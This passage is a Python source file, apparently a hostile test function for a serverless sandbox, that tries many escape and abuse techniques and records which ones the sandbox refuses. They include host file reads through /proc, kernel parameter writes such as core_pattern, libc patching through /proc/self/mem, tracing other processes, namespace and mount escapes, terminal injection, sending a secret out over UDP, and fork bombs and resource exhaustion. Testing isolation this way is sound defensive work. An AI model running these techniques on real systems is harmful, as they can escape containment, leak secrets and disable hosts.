"""A hostile function. One attack per run, at the place that is asked for: import, handler, or grandchild.

An attack returns a list of what it gained: empty means that everything was refused. `notes` say how it was refused.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import re
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EROFS}
ATTACKS = {}
notes = []


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def note(*parts):
    if len(notes) < 100:
        notes.append(" ".join(map(str, parts)))


def system_call(number, *arguments):
    """(result, errno)"""
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return result, ctypes.get_errno()


def expect_refusal(name, number, *arguments, accept=()):
    result, error = system_call(number, *arguments)
    if result >= 0:
        return ["%s gave %d" % (name, result)]
    if error not in REFUSED and error not in accept:
        return ["%s reached the kernel: %s" % (name, errno.errorcode.get(error, error))]
    note(name, errno.errorcode.get(error, error))
    return []


def in_child(function, limit=10):
    """Runs `function` in a child; gives its list, or what killed it."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(write, json.dumps(function()).encode()[:60000])
        except BaseException as fault:
            os.write(write, json.dumps(["fault %r" % fault]).encode())
        os._exit(0)
    os.close(write)
    data, end = b"", time.monotonic() + limit
    while time.monotonic() < end:
        if select.select([read], [], [], 0.1)[0]:
            chunk = os.read(read, 65536)
            if not chunk:
                break
            data += chunk
    else:
        os.kill(pid, signal.SIGKILL)
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return {"killed": os.WTERMSIG(status)}
    return json.loads(data or b"[]")


def readable(path, limit=1 << 20):
    with open(path, "rb") as file:
        return file.read(limit)


# -- files of the host

@attack
def read_host_files(event):
    gained = []
    for path in event["paths"]:
        for form in (path, "/proc/1/root" + path, "/proc/self/root" + path, "/proc/self/cwd/../../.." + path, "/var/task/../.." + path):
            try:
                content = readable(form)
                gained.append("%s: %r" % (form, content[:40]))
            except OSError as fault:
                note(form, fault.strerror)
    return gained


@attack
def search_everything(event):
    """Reads every file that can be reached and looks for secrets that stand in host files and other functions' code."""
    gained, looked, secret = [], 0, event["secret"][::-1].encode()
    end = time.monotonic() + event.get("seconds", 20)
    own = {"/proc/self", "/proc/thread-self"}
    for top in ("/etc", "/root", "/home", "/var", "/run", "/tmp", "/dev", "/sys", "/opt", "/srv", "/mnt", "/media", "/boot", "/proc", "/"):
        for folder, folders, names in os.walk(top, followlinks=False):
            if top == "/":
                folders[:] = [f for f in folders if f not in ("proc", "usr", "lib", "lib64", "bin", "sbin")]
            if folder in own or re.match(r"/proc/\d+/(task|map_files|fd)", folder):
                folders[:] = []
                continue
            for name in names:
                path = os.path.join(folder, name)
                if time.monotonic() > end:
                    return gained
                try:
                    mode = os.stat(path).st_mode
                    if not stat.S_ISREG(mode):
                        continue
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    try:
                        content = os.read(descriptor, 1 << 20)
                    finally:
                        os.close(descriptor)
                    looked += 1
                    if secret in content:
                        gained.append(path)
                except OSError:
                    continue
    note("looked at", looked)
    return gained


@attack
def list_forbidden_folders(event):
    gained = []
    for path in event["folders"]:
        try:
            names = os.listdir(path)
            if names:
                gained.append("%s: %s" % (path, names[:5]))
        except OSError as fault:
            note(path, fault.strerror)
    return gained


@attack
def devices(event):
    gained = []
    allowed = {"null", "zero", "full", "random", "urandom", "tty", "stdin", "stdout", "stderr", "fd", "shm", "pts", "ptmx", "mqueue", "log"}
    try:
        for name in os.listdir("/dev"):
            if name not in allowed:
                gained.append("/dev/" + name)
    except OSError as fault:
        note(fault)
    for name in ("mem", "kmem", "port", "vda", "sda", "kvm", "fuse", "net/tun", "loop0", "loop-control", "kmsg", "console", "vsock", "mapper/control"):
        try:
            os.close(os.open("/dev/" + name, os.O_RDONLY))
            gained.append("opened /dev/" + name)
        except OSError as fault:
            note(name, fault.strerror)
    return gained


@attack
def make_device(event):
    gained = []
    for kind, device in ((stat.S_IFCHR, os.makedev(1, 1)), (stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFCHR, os.makedev(5, 1))):
        for folder in ("/tmp", "/dev/shm", "/dev", "/var/task"):
            path = "%s/device%d" % (folder, device)
            try:
                os.mknod(path, kind | 0o666, device)
                try:
                    os.close(os.open(path, os.O_RDWR))
                    gained.append("opened " + path)
                except OSError as fault:
                    gained.append("made %s (open: %s)" % (path, fault.strerror))
            except OSError as fault:
                note(path, fault.strerror)
    return gained


@attack
def kernel_files(event):
    gained = []
    for path, text in (
        ("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sysrq-trigger", "h"), ("/proc/sys/kernel/hostname", "evil"),
        ("/proc/sys/vm/drop_caches", "3"), ("/proc/sys/kernel/modprobe", "/tmp/x"), ("/proc/sys/net/ipv4/ip_forward", "1"),
        ("/proc/self/oom_score_adj", "-1000"), ("/proc/1/oom_score_adj", "-1000"), ("/proc/self/uid_map", "0 0 1"),
        ("/proc/self/gid_map", "0 0 1"), ("/proc/self/loginuid", "0"),
        ("/proc/irq/0/smp_affinity", "1"), ("/proc/sys/user/max_user_namespaces", "1000000"), ("/sys/kernel/uevent_helper", "/tmp/x"),
        ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"), ("/proc/sys/fs/binfmt_misc/register", "x"), ("/proc/sys/kernel/ns_last_pid", "1"),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
            gained.append("wrote " + path)
        except OSError as fault:
            note(path, fault.strerror)
    for path in ("/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/pagetypeinfo", "/proc/1/mem"):
        if path == "/proc/1/mem" and os.getpid() == 1:
            continue
        try:
            with open(path, "rb") as file:
                content = file.read(4096)
            if path == "/proc/kallsyms" and all(line.startswith(b"0000000000000000") for line in content.splitlines()[:-1]):
                continue
            if content:
                gained.append("read %s: %r" % (path, content[:40]))
        except OSError as fault:
            note(path, fault.strerror)
    return gained


@attack
def environment_of_others(event):
    gained = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            for part in ("environ", "cmdline", "maps"):
                try:
                    content = readable("/proc/%s/%s" % (name, part))
                    if event["secret"][::-1].encode() in content:
                        gained.append("/proc/%s/%s holds the secret" % (name, part))
                except OSError as fault:
                    note(name, part, fault.strerror)
    return gained


@attack
def cgroups(event):
    gained = []
    for line in readable("/proc/self/mountinfo").decode().splitlines():
        if " - cgroup" in line or " - sysfs" in line or " - securityfs" in line or " - debugfs" in line or " - overlay" in line and event.get("data", "\0") in line:
            gained.append(line)
    for folder, _, names in os.walk("/sys"):
        for name in names:
            if name in ("cgroup.procs", "release_agent", "memory.max", "memory.limit_in_bytes"):
                try:
                    open(os.path.join(folder, name), "r+").close()
                    gained.append("opened " + os.path.join(folder, name))
                except OSError as fault:
                    note(name, fault.strerror)
    return gained


@attack
def mounts_name_no_other_function(event):
    """The path of its own package on the host stands there by nature; nobody else's may."""
    digests = set(re.findall(r"packages/([0-9a-f]{64})", readable("/proc/self/mountinfo").decode()))
    return ["mountinfo names %d packages" % len(digests)] if len(digests) > 1 else []


@attack
def write_own_code(event):
    gained = []
    targets = ["/var/task/app.py", "/var/task/new.py", "/var/task/__pycache__/x.pyc", "/usr/bin/python3", sys.executable, os.__file__, "/etc/passwd",
               "/usr/lib/new", "/new", "/var/new", "/etc/ld.so.preload", "/proc/self/exe", "/var/runtime/x", "/opt/x"]
    targets += [module.__file__ for name, module in list(sys.modules.items()) if "martlet" in name and getattr(module, "__file__", None)]
    try:
        targets += [line.split()[-1] for line in readable("/proc/self/maps").decode().splitlines() if line.endswith(".so")][:10]
    except OSError:
        pass
    for path in targets:
        for mode in ("ab", "r+b"):
            try:
                open(path, mode).close()
                gained.append("opened %s for %s" % (path, mode))
            except OSError as fault:
                note(path, fault.strerror)
        for name, change in (("chmod", lambda: os.chmod(path, 0o777)), ("rename", lambda: os.rename(path, path + "x")),
                             ("link", lambda: os.symlink("/tmp", path + "y")), ("utime", lambda: os.utime(path, (1, 1)))):
            try:
                change()
                gained.append("%s %s" % (name, path))
            except OSError as fault:
                note(name, path, fault.strerror)
    return gained


@attack
def patch_own_code_through_memory(event):
    """Writing through /proc/self/mem reaches read-only mappings; it must reach nobody else's page."""
    target = ctypes.cast(libc.getppid, ctypes.c_void_p).value
    try:
        with open("/proc/self/mem", "r+b", buffering=0) as file:
            file.seek(target)
            old = file.read(16)
            file.seek(target)
            file.write(b"\xb8\x39\x05\x00\x00\xc3")
            note("patched libc: getppid gives", libc.getppid())
            file.seek(target)
            file.write(old)
            file.seek(target)
            file.write(b"\xb8\x39\x05\x00\x00\xc3")
    except (OSError, ValueError) as fault:
        note("refused", fault)
    return []


# -- other processes

@attack
def see_processes(event):
    gained = []
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    for pid in pids:
        try:
            line = readable("/proc/%d/cmdline" % pid)
            if event["canary"].encode() in line or b"martlet\0serve" in line or b"pytest" in line:
                gained.append("%d: %r" % (pid, line[:80]))
        except OSError as fault:
            note(pid, fault.strerror)
    if len(pids) > event.get("most", 10):
        gained.append("%d processes" % len(pids))
    return gained


@attack
def kill_everyone(event):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for target in (-1, 0 if False else -1):
            try:
                os.kill(target, number)
                note("kill(-1) found somebody")
            except OSError as fault:
                note("kill(-1)", fault.strerror)
    gained = []
    for pid in event.get("pids", []):
        try:
            os.kill(pid, signal.SIGKILL)
            note("killed own", pid)
        except OSError as fault:
            note(pid, fault.strerror)
        result, error = system_call(434, pid, 0)
        if result >= 0:
            try:
                name = readable("/proc/%d/cmdline" % pid)
                if event["canary"].encode() in name:
                    gained.append("pidfd of the canary")
            except OSError:
                pass
            os.close(result)
    return gained


@attack
def kill_pid_1(event):
    if os.getpid() == 1:
        return []
    try:
        os.kill(1, signal.SIGKILL)
        note("sent to PID 1")
    except OSError as fault:
        note(fault.strerror)
    return []


@attack
def trace_pid_1(event):
    gained = []
    others = [int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) not in (os.getpid(), os.getppid())]
    for pid in sorted(set(others) | ({1} if os.getpid() != 1 else set())):
        gained += expect_refusal("ptrace(ATTACH, %d)" % pid, 101, 16, pid, 0, 0, accept=(errno.ESRCH,))
        gained += expect_refusal("ptrace(SEIZE, %d)" % pid, 101, 0x4206, pid, 0, 0, accept=(errno.ESRCH,))
    return gained


@attack
def read_memory_of_others(event):
    buffer = ctypes.create_string_buffer(64)
    vector = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
    gained = []
    for pid in {1, 2, 3, os.getppid() or 1}:
        for name, number in (("process_vm_readv", 310), ("process_vm_writev", 311)):
            gained += expect_refusal("%s(%d)" % (name, pid), number, pid, ctypes.byref(vector), 1, ctypes.byref(remote), 1, 0, accept=(errno.ESRCH,))
    if os.getpid() != 1:
        try:
            with open("/proc/1/mem", "r+b", buffering=0) as file:
                for line in readable("/proc/1/maps").decode().splitlines()[:3]:
                    file.seek(int(line.split("-")[0], 16))
                    if event["place"] != "grandchild":
                        gained.append("read /proc/1/mem: %r" % file.read(16))
        except (OSError, ValueError) as fault:
            note("/proc/1/mem", fault)
    return gained


# -- privileges

CLONE_FLAGS = {"NEWUSER": 0x10000000, "NEWNS": 0x20000, "NEWPID": 0x20000000, "NEWNET": 0x40000000, "NEWIPC": 0x8000000,
               "NEWUTS": 0x4000000, "NEWCGROUP": 0x2000000, "NEWTIME": 0x80}
# What the template may do because it prepares the copies: only in its own namespaces, with exactly these flags.
TEMPLATE_UNSHARE = {"NEWNS", "NEWIPC", "NEWPID"}


@attack
def unshare(event):
    gained = []
    for name, flag in CLONE_FLAGS.items():
        if event["template"] and name in TEMPLATE_UNSHARE:
            continue
        gained += expect_refusal("unshare(%s)" % name, 272, flag)
    return gained


@attack
def clone_namespaces(event):
    gained = []
    for name, flag in CLONE_FLAGS.items():
        if event["template"] and name in TEMPLATE_UNSHARE:
            continue
        if name == "NEWTIME":
            continue
        result, error = system_call(56, flag | signal.SIGCHLD, 0, 0, 0, 0)
        if result == 0:
            os._exit(0)
        if result > 0:
            os.waitpid(result, 0)
            gained.append("clone(%s)" % name)
        elif error not in REFUSED and error != errno.EINVAL:
            gained.append("clone(%s) reached the kernel: %s" % (name, errno.errorcode.get(error)))
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    result, error = system_call(435, ctypes.byref(arguments), 88)
    if result == 0:
        os._exit(0)
    if result > 0:
        os.waitpid(result, 0)
        gained.append("clone3(NEWUSER)")
    return gained


def table(event, calls):
    gained = []
    for name, number, *arguments in calls:
        accept = ()
        if arguments and isinstance(arguments[-1], tuple):
            *arguments, accept = arguments
        gained += expect_refusal(name, number, *arguments, accept=accept)
    return gained


def text(value):
    return ctypes.c_char_p(value)


@attack
def mounts(event):
    os.makedirs("/tmp/m", exist_ok=True)
    calls = [
        ("mount bind", 165, text(b"/"), text(b"/tmp/m"), text(b""), 4096, 0),
        ("mount proc", 165, text(b"proc"), text(b"/tmp/m"), text(b"proc"), 0, 0),
        ("mount sysfs", 165, text(b"sysfs"), text(b"/tmp/m"), text(b"sysfs"), 0, 0),
        ("mount cgroup", 165, text(b"cgroup"), text(b"/tmp/m"), text(b"cgroup"), 0, text(b"memory")),
        ("mount cgroup2", 165, text(b"cgroup2"), text(b"/tmp/m"), text(b"cgroup2"), 0, 0),
        ("mount overlay", 165, text(b"o"), text(b"/tmp/m"), text(b"overlay"), 0, text(b"lowerdir=/:/usr")),
        ("mount block", 165, text(b"/dev/vda"), text(b"/tmp/m"), text(b"ext4"), 0, 0),
        ("remount rw", 165, text(b""), text(b"/"), text(b""), 32, 0),
        ("remount task rw", 165, text(b""), text(b"/var/task"), text(b""), 32 | 4096, 0),
        ("move", 165, text(b"/proc"), text(b"/tmp/m"), text(b""), 8192, 0),
        ("umount /proc", 166, text(b"/proc"), 2), ("umount /var/task", 166, text(b"/var/task"), 2), ("umount /", 166, text(b"/"), 2),
        ("pivot_root", 155, text(b"/tmp"), text(b"/tmp/m")), ("chroot", 161, text(b"/tmp")),
        ("open_tree clone", 428, -100, text(b"/"), 1), ("open_tree", 428, -100, text(b"/"), 0x8001), ("fsopen", 430, text(b"tmpfs"), 0),
        ("fspick", 433, -100, text(b"/"), 0), ("move_mount", 429, -1, text(b""), -1, text(b"/tmp/m"), 4),
        ("fsmount", 432, -1, 0, 0), ("fsconfig", 431, -1, 0, 0, 0, 0), ("mount_setattr", 442, -100, text(b"/"), 0, 0, 0),
    ]
    if not event["template"]:
        calls.append(("mount tmpfs", 165, text(b"tmpfs"), text(b"/tmp/m"), text(b"tmpfs"), 0, 0))
    accept = (errno.EINVAL, errno.EBADF, errno.ENODEV, errno.ENOTBLK, errno.ENOENT) if event["template"] else ()
    return table(event, [(*call, accept) for call in calls])


@attack
def template_mounts_stay_inside(event):
    """What the template may mount must not show it the host: a fresh /proc of its own namespace at most."""
    gained = []
    system_call(272, 0x20000)
    os.makedirs("/tmp/p", exist_ok=True)
    for kind in (b"proc", b"sysfs", b"cgroup2", b"devtmpfs", b"debugfs", b"tracefs", b"bpf", b"securityfs"):
        result, error = system_call(165, text(kind), text(b"/tmp/p"), text(kind), 0, 0)
        if result == 0:
            found = os.listdir("/tmp/p")
            if kind != b"proc":
                gained.append("mounted %s: %s" % (kind.decode(), found[:5]))
            else:
                for name in found:
                    if name.isdigit():
                        try:
                            if event["canary"].encode() in readable("/tmp/p/%s/cmdline" % name):
                                gained.append("sees the canary in a fresh /proc")
                        except OSError:
                            pass
            system_call(166, text(b"/tmp/p"), 2)
        else:
            note(kind.decode(), errno.errorcode.get(error))
    return gained


@attack
def enter_namespaces(event):
    gained = []
    for pid in ("1", "self", "2"):
        for kind in ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup"):
            try:
                descriptor = os.open("/proc/%s/ns/%s" % (pid, kind), os.O_RDONLY)
            except OSError as fault:
                note(pid, kind, fault.strerror)
                continue
            same = os.fstat(descriptor).st_ino == os.stat("/proc/self/ns/" + kind).st_ino
            result, error = system_call(308, descriptor, 0)
            if result == 0 and not (event["template"] and (same or kind in ("pid", "net"))):
                gained.append("setns %s/%s" % (pid, kind))
            else:
                note("setns", kind, errno.errorcode.get(error))
            # NS_GET_USERNS, NS_GET_PARENT: handles on what is above.
            for request in (0xB701, 0xB702):
                try:
                    above = fcntl.ioctl(descriptor, request)
                    if system_call(308, above, 0)[0] == 0:
                        gained.append("entered what is above %s/%s" % (pid, kind))
                    os.close(above)
                except OSError as fault:
                    note(kind, fault.strerror)
            os.close(descriptor)
    return gained


@attack
def kernel_interfaces(event):
    block = ctypes.create_string_buffer(256)
    pointer = ctypes.addressof(block)
    return table(event, [
        ("bpf", 321, 0, pointer, 72), ("perf_event_open", 298, pointer, 0, -1, -1, 0), ("io_uring_setup", 425, 4, pointer),
        ("io_uring_enter", 426, -1, 0, 0, 0, 0), ("io_uring_register", 427, -1, 0, 0, 0), ("userfaultfd", 323, 0), ("userfaultfd user", 323, 1),
        ("keyctl", 250, 0, -3, 1), ("add_key", 248, text(b"user"), text(b"k"), pointer, 4, -3), ("request_key", 249, text(b"user"), text(b"k"), 0, -3),
        ("init_module", 175, pointer, 8, text(b"")), ("finit_module", 313, -1, text(b""), 0), ("delete_module", 176, text(b"x"), 0),
        ("kexec_load", 246, 0, 0, 0, 0), ("kexec_file_load", 320, -1, -1, 0, 0, 0), ("reboot", 169, 0xfee1dead, 672274793, 0x01234567, 0),
        ("swapon", 167, text(b"/tmp/s"), 0), ("swapoff", 168, text(b"/tmp/s")), ("acct", 163, text(b"/tmp/a")), ("quotactl", 179, 0x800001, text(b"/"), 0, 0),
        ("syslog", 103, 3, pointer, 100), ("iopl", 172, 3), ("ioperm", 173, 0, 1, 1), ("kcmp", 312, 1, 1, 0, 0, 0), ("pidfd_getfd", 438, -1, 0, 0),
        ("open_by_handle_at", 304, -100, pointer, 0), ("name_to_handle_at", 303, -100, text(b"/tmp"), pointer, pointer, 0),
        ("fanotify_init", 300, 0, 0), ("lookup_dcookie", 212, 0, pointer, 10), ("vhangup", 153), ("nfsservctl", 180, 0, 0, 0),
        ("move_pages", 279, 0, 0, 0, 0, 0, 0), ("personality", 135, 0x0040000), ("modify_ldt", 154, 1, pointer, 16, (errno.EINVAL,)),
        ("uselib", 134, text(b"/x")), ("ustat", 136, 0, pointer), ("sysfs", 139, 1, text(b"x")), ("pidfd_send_signal(init)", 424, -1, 9, 0, 0, (errno.EBADF,)),
        ("process_madvise", 440, -1, 0, 0, 0, 0, (errno.EBADF,)), ("lsm_set_self_attr", 460, 0, 0, 0, 0), ("quotactl_fd", 443, -1, 0, 0, 0),
    ])


@attack
def change_identity(event):
    gained = []
    for name, call in (("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
                       ("setresuid", lambda: os.setresuid(0, 0, 0))):
        before = os.getuid(), os.getgid(), os.getgroups()
        try:
            call()
            if (os.getuid(), os.getgid(), os.getgroups()) != before:
                gained.append(name)
        except OSError as fault:
            note(name, fault.strerror)
    status = dict(line.split(":", 1) for line in readable("/proc/self/status").decode().splitlines())
    if status["NoNewPrivs"].strip() != "1":
        gained.append("no_new_privs is off")
    if status["Seccomp"].strip() != "2":
        gained.append("no seccomp filter")
    if not event["template"] and any(int(status[name], 16) for name in ("CapEff", "CapPrm", "CapAmb", "CapInh")):
        gained.append("capabilities: %s %s %s %s" % tuple(status[name] for name in ("CapEff", "CapPrm", "CapAmb", "CapInh")))
    # What the template keeps stays in the bounding set of its copies, where nothing can raise it: no_new_privs holds.
    if int(status["CapBnd"], 16) & ~(1 << 21):
        gained.append("bounding set: %s" % status["CapBnd"])
    if event["template"] and int(status["CapEff"], 16) & ~(1 << 21):
        gained.append("the template has more than CAP_SYS_ADMIN: %s" % status["CapEff"])
    return gained


@attack
def regain_capabilities(event):
    gained = []
    header = struct.pack("Ii", 0x20080522, 0)
    data = struct.pack("IIIIII", 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    if system_call(126, text(header), text(data))[0] == 0:
        gained.append("capset")
    for capability in range(41):
        # The template has its one already.
        if libc.prctl(47, 2, capability, 0, 0) == 0 and not (event["template"] and capability == 21):
            gained.append("raised the ambient capability %d" % capability)
    if libc.prctl(28, 0, 0, 0, 0) == 0 and event["template"] is False:
        note("securebits may be cleared without effect")
    if libc.prctl(22, 0, 0, 0, 0) == 0:
        gained.append("seccomp off")
    return gained


@attack
def set_time_and_names(event):
    now = struct.pack("qq", 0, 0)
    return table(event, [
        ("settimeofday", 164, text(now), 0), ("clock_settime", 227, 0, text(now)), ("sethostname", 170, text(b"evil"), 4),
        ("setdomainname", 171, text(b"evil"), 4), ("stime via adjtimex", 159, text(struct.pack("I", 1) + b"\0" * 250)),
        ("clock_adjtime", 305, 0, text(struct.pack("I", 1) + b"\0" * 250)),
    ])


@attack
def raise_priority_and_limits(event):
    gained = []
    for name, call in (("nice", lambda: os.nice(-5)), ("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))),
                       ("processes", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (1 << 20, 1 << 20))),
                       ("files", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))),
                       ("core", lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)))):
        try:
            call()
            gained.append(name)
        except (OSError, ValueError) as fault:
            note(name, fault)
    return gained


@attack
def set_user_id_programs(event):
    gained = []
    for top in ("/usr", "/bin", "/sbin", "/opt", "/var/task", "/tmp"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    mode = os.lstat(path).st_mode
                except OSError:
                    continue
                if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID) and os.access(path, os.X_OK):
                    note("found", path)
                    try:
                        done = subprocess.run([path, "-c", "id -u"], capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
                        if done.stdout.strip() == b"0" and os.getuid() != 0:
                            gained.append(path)
                    except (OSError, subprocess.SubprocessError) as fault:
                        note(path, fault)
    return gained


@attack
def foreign_system_call_tables(event):
    gained = []

    def x32():
        result, error = system_call(0x40000000 | 39)
        return ["x32 getpid gave %d" % result] if result > 0 else []
    outcome = in_child(x32)
    note("x32", outcome)
    gained += outcome if isinstance(outcome, list) else []

    def int80():
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        # mov eax, 20 (getpid); int 0x80; ret
        code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        return ["int 0x80 getpid gave %d" % result] if result > 0 else []
    outcome = in_child(int80)
    note("int80", outcome)
    gained += outcome if isinstance(outcome, list) and not any("fault" in o for o in outcome) else []
    return gained


@attack
def terminal_injection(event):
    gained = []
    for descriptor in range(0, 16):
        for name, request in (("TIOCSTI", 0x5412), ("TIOCLINUX", 0x541C), ("TIOCCONS", 0x541D)):
            try:
                fcntl.ioctl(descriptor, request, b"x")
                gained.append("%s on %d" % (name, descriptor))
            except OSError as fault:
                note(name, descriptor, fault.strerror)
    # The upper half of the request must not hide it from the filter.
    result, error = system_call(16, 0, 0x100005412, text(b"x"))
    if result == 0:
        gained.append("TIOCSTI with upper bits")
    return gained


# -- network

@attack
def odd_sockets(event):
    gained = []
    for name, family, kind, protocol in (
        ("packet", 17, socket.SOCK_RAW, 0x0300), ("packet datagram", 17, socket.SOCK_DGRAM, 0x0300), ("raw icmp", socket.AF_INET, socket.SOCK_RAW, 1),
        ("raw", socket.AF_INET, socket.SOCK_RAW, 255), ("raw6", socket.AF_INET6, socket.SOCK_RAW, 58), ("vsock", 40, socket.SOCK_STREAM, 0),
        ("alg", 38, socket.SOCK_SEQPACKET, 0), ("xdp", 44, socket.SOCK_RAW, 0), ("bluetooth", 31, socket.SOCK_RAW, 1), ("can", 29, socket.SOCK_RAW, 1),
        ("tipc", 30, socket.SOCK_DGRAM, 0), ("rds", 21, socket.SOCK_SEQPACKET, 0), ("key", 15, socket.SOCK_RAW, 2), ("kcm", 41, socket.SOCK_DGRAM, 0),
        ("nfnetlink", 16, socket.SOCK_RAW, 12), ("audit", 16, socket.SOCK_RAW, 9), ("uevent", 16, socket.SOCK_RAW, 15), ("netfilter", 16, socket.SOCK_RAW, 12),
    ):
        result, error = system_call(41, family, kind, protocol)
        if result >= 0:
            os.close(result)
            if family == 16:
                note(name, "opened")
                continue
            gained.append(name)
        else:
            note(name, errno.errorcode.get(error))
    try:
        # RTM_NEWLINK: bring lo down.
        s = socket.socket(16, socket.SOCK_RAW, 0)
        s.settimeout(2)
        s.send(struct.pack("IHHIIBBHiII", 32, 16, 5, 1, 0, 0, 0, 0, 1, 0, 1))
        reply = s.recv(4096)
        code = struct.unpack_from("i", reply, 16)[0]
        if code == 0:
            gained.append("changed a network interface")
        s.close()
    except OSError as fault:
        note("netlink", fault)
    return gained


@attack
def reach_network(event):
    gained = []
    for address, port in event["addresses"]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.3)
        try:
            s.connect((address, port))
            gained.append("connected to %s:%d" % (address, port))
        except OSError as fault:
            note(address, port, fault)
        finally:
            s.close()
        u = socket.socket(family, socket.SOCK_DGRAM)
        u.settimeout(0.2)
        try:
            u.sendto(event["secret"].encode(), (address, event.get("udp", port)))
            u.recv(100)
            gained.append("datagram answered by %s" % address)
        except OSError as fault:
            note("udp", address, fault)
        finally:
            u.close()
    for name in event.get("unix", []):
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(name.replace("@", "\0", 1) if name.startswith("@") else name)
            gained.append("connected to " + name)
        except OSError as fault:
            note(name, fault)
        finally:
            s.close()
    try:
        names = [n for _, n in socket.if_nameindex()]
        if set(names) - {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "erspan0", "gretap0", "ip_vti0", "ip6_vti0", "ip6gre0"}:
            gained.append("interfaces %s" % names)
    except OSError as fault:
        note(fault)
    return gained


@attack
def own_loopback_is_own(event):
    """Its own lo works; a listener there is nobody else's."""
    s = socket.socket()
    try:
        s.bind(("127.0.0.1", 4711))
        s.listen()
        c = socket.create_connection(("127.0.0.1", 4711), 2)
        c.close()
    except OSError as fault:
        note(fault)
    finally:
        s.close()
    return []


# -- exhaustion

@attack
def fork_bomb(event):
    count, end, pids = 0, time.monotonic() + 3, []
    while time.monotonic() < end and count < 20000:
        try:
            pid = os.fork()
        except OSError as fault:
            note("stopped at", count, fault.strerror)
            break
        if pid == 0:
            try:
                signal.pause()
            finally:
                os._exit(0)
        pids.append(pid)
        count += 1
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except OSError:
            pass
    return ["%d processes" % count] if count > event["most"] else []


@attack
def fork_bomb_wild(event):
    """Grows from every process and never cleans up."""
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    return []


@attack
def fill_memory(event):
    def fill():
        hold = []
        while True:
            block = mmap.mmap(-1, 16 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for offset in range(0, 16 << 20, 4096):
                block[offset] = 1
            hold.append(block)
            if len(hold) * 16 > event["most"]:
                return ["%d MB" % (len(hold) * 16)]
    outcome = in_child(fill, 30)
    note(outcome)
    return outcome if isinstance(outcome, list) else []


@attack
def fill_disk(event):
    gained = []
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/", "/var/task", "/dev", "/home", "/dev/mqueue"):
        written, block = 0, b"x" * (1 << 20)
        path = folder + "/filler"
        try:
            with open(path, "wb") as file:
                while written < (2 << 30):
                    written += file.write(block)
        except OSError as fault:
            note(folder, written >> 20, "MB", fault.strerror)
        limit = event["most"] if folder == "/tmp" else event.get("other", event["most"])
        if written > limit << 20:
            gained.append("%s took %d MB" % (folder, written >> 20))
        try:
            os.unlink(path)
        except OSError:
            pass
    return gained


@attack
def fill_inodes(event):
    gained = []
    for folder in ("/tmp", "/dev/shm"):
        count = 0
        try:
            os.makedirs(folder + "/many", exist_ok=True)
            while count < 2_000_000:
                os.close(os.open("%s/many/%d" % (folder, count), os.O_CREAT | os.O_WRONLY))
                count += 1
                if count % 1000 == 0 and time.monotonic() > START + 25:
                    note(folder, "slow", count)
                    break
        except OSError as fault:
            note(folder, count, fault.strerror)
        if count >= 1_000_000:
            gained.append("%d files in %s" % (count, folder))
    return gained


@attack
def fill_kernel_tables(event):
    gained = []
    held = []
    try:
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as fault:
        note("descriptors", len(held), fault.strerror)
    if len(held) >= 5000:
        gained.append("%d descriptors" % len(held))
    for descriptor in held:
        os.close(descriptor)
    segments = 0
    while segments < 200:
        result, error = system_call(29, 0, 16 << 20, 0o1600)
        if result < 0:
            note("shm", segments, errno.errorcode.get(error))
            break
        segments += 1
    return gained


@attack
def flood_output(event):
    block = b"o" * 65535 + b"\n"
